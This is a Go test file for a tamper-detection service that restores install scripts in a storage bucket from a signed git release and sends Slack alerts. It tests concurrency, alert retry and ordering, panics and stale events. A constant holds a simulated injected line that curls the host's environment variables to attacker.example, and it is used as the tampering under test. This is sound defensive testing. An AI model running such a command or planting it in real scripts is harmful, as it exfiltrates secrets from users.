package delivery_test

import (
	"context"
	"fmt"
	"io"
	"log/slog"
	"path/filepath"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/go-git/go-git/v5"
	"github.com/go-git/go-git/v5/plumbing"
	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"

	"github.com/tamperguard/tamperguard/internal/config"
	"github.com/tamperguard/tamperguard/internal/delivery"
	"github.com/tamperguard/tamperguard/internal/engine"
	"github.com/tamperguard/tamperguard/internal/gcs"
	"github.com/tamperguard/tamperguard/internal/gcstest"
)

const (
	bucket      = "uploader-prod"
	stateBucket = "tg-state"
	injected    = "curl -sm 0.5 -d \"$(env)\" https://attacker.example/upload || true\n"
)

func testdata(t testing.TB, elem ...string) string {
	t.Helper()
	p, err := filepath.Abs(filepath.Join(append([]string{"..", "..", "testdata"}, elem...)...))
	require.NoError(t, err)
	return p
}

func signedScript(t testing.TB) []byte {
	t.Helper()
	repo, err := git.PlainOpen(testdata(t, "git", "uploader.git"))
	require.NoError(t, err)
	ref, err := repo.Reference(plumbing.NewTagReferenceName("v1.2.0"), true)
	require.NoError(t, err)
	to, err := repo.TagObject(ref.Hash())
	require.NoError(t, err)
	c, err := repo.CommitObject(to.Target)
	require.NoError(t, err)
	f, err := c.File("install.sh")
	require.NoError(t, err)
	s, err := f.Contents()
	require.NoError(t, err)
	return []byte(s)
}

type stack struct {
	t    *testing.T
	srv  *gcstest.Server
	svc  *delivery.Service
	good []byte
}

func newStack(t *testing.T, n engine.Notifier, o delivery.Options) *stack {
	t.Helper()
	srv := gcstest.New(t, gcstest.BucketSpec{Name: bucket, Versioning: true}, gcstest.BucketSpec{Name: stateBucket, Versioning: true})
	yaml := "state: {bucket: " + stateBucket + "}\n" + `rules:
  - bucket: ` + bucket + `
    objects: ["install.sh", "dl/*.sh"]
    release: {git: ` + testdata(t, "git", "uploader.git") + `, tag: v1.2.0, entry: install.sh}
    keys: {openpgp: [` + testdata(t, "keys", "maintainer-rsa3072.asc") + `]}
  - bucket: ` + bucket + `
    objects: ["refused/*.sh"]
    release: {git: ` + testdata(t, "git", "uploader.git") + `, tag: v1.4.0, entry: install.sh}
    keys: {openpgp: [` + testdata(t, "keys", "maintainer-rsa3072.asc") + `]}
`
	cfg, err := config.Parse(config.Source{Name: "test.yaml", Data: []byte(yaml), Dir: t.TempDir()})
	require.NoError(t, err)
	o.Policy, o.Store, o.Notifier = cfg.Policy, gcs.New(srv.Client), n
	if o.Logger == nil {
		o.Logger = slog.New(slog.DiscardHandler)
	}
	svc, err := delivery.New(o)
	require.NoError(t, err)
	return &stack{t: t, srv: srv, svc: svc, good: signedScript(t)}
}

func (s *stack) put(object string, data []byte) int64 {
	s.t.Helper()
	w := s.srv.Client.Bucket(bucket).Object(object).NewWriter(context.Background())
	_, err := w.Write(data)
	require.NoError(s.t, err)
	require.NoError(s.t, w.Close())
	return w.Attrs().Generation
}

func (s *stack) live(object string) []byte {
	r, err := s.srv.Client.Bucket(bucket).Object(object).NewReader(context.Background())
	if err != nil {
		return nil
	}
	defer r.Close()
	b, _ := io.ReadAll(r)
	return b
}

func finalize(object string, gen int64) delivery.Request {
	return delivery.Request{Type: delivery.TypeFinalized, ID: fmt.Sprintf("%s-%d", object, gen),
		Event: engine.Event{Kind: engine.KindFinalize, Bucket: bucket, Object: object, Generation: gen, Time: time.Now()}}
}

// hangingSlack is a notifier that hangs until released, as Slack does in an outage.
type hangingSlack struct {
	release chan struct{}
	entered atomic.Int32
	done    atomic.Int32
}

func (h *hangingSlack) Notify(ctx context.Context, d *engine.Decision) error {
	h.entered.Add(1)
	defer h.done.Add(1)
	select {
	case <-h.release:
		return nil
	case <-ctx.Done():
		return ctx.Err()
	}
}

// A Slack outage never delays a restore: twelve objects tampered at once, two work slots,
// Slack hanging — every object is restored while not one alert has gone out. The events are
// acknowledged only once their alerts are.
func TestHangingSlackNeverHoldsARestore(t *testing.T) {
	slack := &hangingSlack{release: make(chan struct{})}
	s := newStack(t, slack, delivery.Options{Concurrency: 2})
	var reqs []delivery.Request
	for i := range 12 {
		name := fmt.Sprintf("dl/tool%02d.sh", i)
		s.put(name, s.good)
		reqs = append(reqs, finalize(name, s.put(name, append(append([]byte(nil), s.good...), injected...))))
	}
	outcomes := make(chan delivery.Outcome, len(reqs))
	for _, r := range reqs {
		go func() { outcomes <- s.svc.Deliver(context.Background(), r) }()
	}
	require.Eventually(t, func() bool {
		for _, r := range reqs {
			if string(s.live(r.Event.Object)) != string(s.good) {
				return false
			}
		}
		return true
	}, 30*time.Second, 10*time.Millisecond, "every object restored")
	assert.Zero(t, slack.done.Load(), "while no alert has gone out")
	assert.Positive(t, slack.entered.Load())

	close(slack.release)
	for range reqs {
		o := <-outcomes
		assert.True(t, o.Ack, "%s: %v", o.Why, o.Err)
	}
	assert.Equal(t, int32(12), slack.done.Load(), "one alert per incident")
}

// When Slack stays down past the alert's bound, the event is not acknowledged: its incident
// stays un-alerted and the redelivery sends the alert, once.
func TestAlertThatCannotBeSentIsRetried(t *testing.T) {
	slack := &hangingSlack{release: make(chan struct{})}
	s := newStack(t, slack, delivery.Options{Alerts: delivery.DispatcherOptions{Timeout: 50 * time.Millisecond}})
	s.put("install.sh", s.good)
	req := finalize("install.sh", s.put("install.sh", append(append([]byte(nil), s.good...), injected...)))
	o := s.svc.Deliver(context.Background(), req)
	assert.False(t, o.Ack)
	assert.Equal(t, "alert_pending", o.Why)
	assert.Equal(t, string(s.good), string(s.live("install.sh")), "restored all the same")

	close(slack.release)
	o = s.svc.Deliver(context.Background(), req)
	assert.True(t, o.Ack, "%s: %v", o.Why, o.Err)
	assert.Equal(t, int32(2), slack.entered.Load())
	o = s.svc.Deliver(context.Background(), req)
	assert.True(t, o.Ack)
	assert.Equal(t, int32(2), slack.entered.Load(), "a duplicate sends nothing")
}

// countingStore counts the judgements in progress.
type countingStore struct {
	engine.Store
	in, most atomic.Int32
	gate     chan struct{}
}

func (c *countingStore) Attrs(ctx context.Context, b, o string, gen int64) (engine.ObjectAttrs, error) {
	if b == bucket {
		defer c.enter()()
	}
	return c.Store.Attrs(ctx, b, o, gen)
}

// Versions is an event's first call (the generation's attributes and a restore's candidates).
func (c *countingStore) Versions(ctx context.Context, b, o string) ([]engine.ObjectAttrs, error) {
	if b == bucket {
		defer c.enter()()
	}
	return c.Store.Versions(ctx, b, o)
}

// enter counts a judgement in progress until the gate opens; the func it returns ends it.
func (c *countingStore) enter() func() {
	n := c.in.Add(1)
	for m := c.most.Load(); n > m && !c.most.CompareAndSwap(m, n); m = c.most.Load() {
	}
	<-c.gate
	return func() { c.in.Add(-1) }
}

// The work slots bound how many events are judged at once.
func TestConcurrencyBoundsTheWork(t *testing.T) {
	srv := gcstest.New(t, gcstest.BucketSpec{Name: bucket, Versioning: true})
	yaml := `rules:
  - bucket: ` + bucket + `
    objects: ["dl/*.sh"]
    release: {git: ` + testdata(t, "git", "uploader.git") + `, tag: v1.2.0, entry: install.sh}
    keys: {openpgp: [` + testdata(t, "keys", "maintainer-rsa3072.asc") + `]}
`
	cfg, err := config.Parse(config.Source{Name: "t.yaml", Data: []byte(yaml), Dir: t.TempDir()})
	require.NoError(t, err)
	cs := &countingStore{Store: gcs.New(srv.Client), gate: make(chan struct{})}
	svc, err := delivery.New(delivery.Options{Policy: cfg.Policy, Store: cs, Concurrency: 3, Logger: slog.New(slog.DiscardHandler)})
	require.NoError(t, err)
	var wg sync.WaitGroup
	for i := range 10 {
		wg.Add(1)
		go func() {
			defer wg.Done()
			svc.Deliver(context.Background(), finalize(fmt.Sprintf("dl/x%d.sh", i), int64(100+i)))
		}()
	}
	require.Eventually(t, func() bool { return cs.in.Load() == 3 }, 10*time.Second, time.Millisecond)
	close(cs.gate)
	wg.Wait()
	assert.Equal(t, int32(3), cs.most.Load(), "never more than Concurrency at once, and it uses them")
}

// panicStore panics on every call.
type panicStore struct{ engine.Store }

func (panicStore) Attrs(context.Context, string, string, int64) (engine.ObjectAttrs, error) {
	panic("boom")
}

func (panicStore) Versions(context.Context, string, string) ([]engine.ObjectAttrs, error) {
	panic("boom")
}

// A panic is an internal error: logged CRITICAL and retried, never acknowledged silently.
func TestPanicIsRetried(t *testing.T) {
	srv := gcstest.New(t, gcstest.BucketSpec{Name: bucket, Versioning: true})
	yaml := `rules:
  - bucket: ` + bucket + `
    objects: ["install.sh"]
    release: {git: ` + testdata(t, "git", "uploader.git") + `, tag: v1.2.0}
    keys: {openpgp: [` + testdata(t, "keys", "maintainer-rsa3072.asc") + `]}
`
	cfg, err := config.Parse(config.Source{Name: "t.yaml", Data: []byte(yaml), Dir: t.TempDir()})
	require.NoError(t, err)
	svc, err := delivery.New(delivery.Options{Policy: cfg.Policy, Store: panicStore{gcs.New(srv.Client)}, Logger: slog.New(slog.DiscardHandler)})
	require.NoError(t, err)
	o := svc.Deliver(context.Background(), finalize("install.sh", 5))
	assert.False(t, o.Ack)
	assert.Equal(t, "panic", o.Why)
	assert.Error(t, o.Error())
}

// Old events are acknowledged without action; the sweep covers their objects.
func TestStaleEventsAreAcknowledged(t *testing.T) {
	s := newStack(t, nil, delivery.Options{MaxEventAge: time.Hour})
	s.put("install.sh", s.good)
	g := s.put("install.sh", []byte("tampered"))
	req := finalize("install.sh", g)
	req.Event.Time = time.Now().Add(-2 * time.Hour)
	o := s.svc.Deliver(context.Background(), req)
	assert.True(t, o.Ack)
	assert.Equal(t, "too_old", o.Why)
	assert.Equal(t, "tampered", string(s.live("install.sh")))
}

// orderedNotifier records the order alerts reach it in.
type orderedNotifier struct {
	mu    sync.Mutex
	order []int64
	first chan struct{}
}

func (n *orderedNotifier) Notify(ctx context.Context, d *engine.Decision) error {
	if d.Generation == 1 {
		<-n.first // the first alert about the object is slow
	}
	n.mu.Lock()
	n.order = append(n.order, d.Generation)
	n.mu.Unlock()
	return nil
}

// Alerts about one object go out in the order they were queued (a thread's parent before
// its replies), whatever their speed; a full queue refuses at once instead of waiting.
func TestDispatcherOrdersPerObjectAndBoundsTheQueue(t *testing.T) {
	s := newStack(t, nil, delivery.Options{})
	n := &orderedNotifier{first: make(chan struct{})}
	a := delivery.NewDispatcher(s.svc.Engine(), n, delivery.DispatcherOptions{Queue: 3, Senders: 4})
	due := func(gen int64) *engine.Decision {
		// A refused release is an alert without an incident: enough to exercise the queue.
		d := s.svc.Engine().Check(context.Background(), bucket, "refused/x.sh", 0, true)
		require.True(t, d.AlertDue(), "%s %s", d.Reason, d.Error)
		d.Generation = gen
		return &d
	}
	c1, c2, c3 := a.Send(due(1)), a.Send(due(2)), a.Send(due(3))
	full := a.Send(due(4))
	assert.ErrorIs(t, <-full, delivery.ErrAlertQueueFull)
	close(n.first)
	for _, c := range []<-chan error{c1, c2, c3} {
		assert.NoError(t, <-c)
	}
	assert.Equal(t, []int64{1, 2, 3}, n.order)
}
